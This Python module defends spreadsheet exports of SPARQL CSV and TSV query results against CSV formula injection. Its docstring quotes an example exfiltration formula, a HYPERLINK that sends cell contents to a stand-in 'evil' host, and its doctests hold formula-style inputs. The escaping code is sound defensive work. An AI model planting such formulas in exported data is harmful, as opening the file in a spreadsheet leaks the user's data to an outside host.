"""CSV and TSV answers that a spreadsheet opens as text: a cell that begins with = + - @ (or their
full-width forms, or a tab or carriage return) is a formula to Excel and LibreOffice, so
`=HYPERLINK("http://evil/?"&A1)` in a bulletin would run when a user opens `kg query --format csv`.
Such cells get a leading apostrophe (OWASP, "CSV injection"); numbers (-12, +3.5, 1e-3) stay numbers.

>>> neutralise_csv('a,b\\r\\n"=HYPERLINK(""x"")",-12\\r\\n')
'a,b\\r\\n"\\'=HYPERLINK(""x"")",-12\\r\\n'
>>> neutralise_tsv('?a\\t?b\\n"@cmd"\\t-3\\n')
'?a\\t?b\\n"\\'@cmd"\\t-3\\n'
"""

from __future__ import annotations

import csv
import io
import re

_DANGER = tuple("=+-@\t\r＝＋－＠")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _dangerous(cell: str) -> bool:
    return cell.startswith(_DANGER) and not _NUMBER.match(cell)


def neutralise_csv(text: str) -> str:
    """SPARQL CSV results (RFC 4180, as Oxigraph writes them) with formula-like cells made text."""
    rows = list(csv.reader(io.StringIO(text, newline="")))
    if not any(_dangerous(c) for row in rows for c in row):
        return text
    out = io.StringIO(newline="")
    w = csv.writer(out, lineterminator="\r\n")
    for row in rows:
        w.writerow(["'" + c if _dangerous(c) else c for c in row])
    return out.getvalue()


def neutralise_tsv(text: str) -> str:
    """SPARQL TSV results: terms in Turtle syntax ("text"@zh, <iri>, 12). A spreadsheet drops the
    quotes of "…" and reads what is inside, so the apostrophe goes inside them."""
    lines = text.split("\n")
    for i, line in enumerate(lines[1:], start=1):
        cells = line.split("\t")
        changed = False
        for j, cell in enumerate(cells):
            body = cell[1:] if cell.startswith('"') else cell
            if _dangerous(body) or (cell.startswith('"') and body.startswith(("\\t", "\\r"))):
                cells[j] = ('"' + "'" + body) if cell.startswith('"') else "'" + cell
                changed = True
        if changed:
            lines[i] = "\t".join(cells)
    return "\n".join(lines)
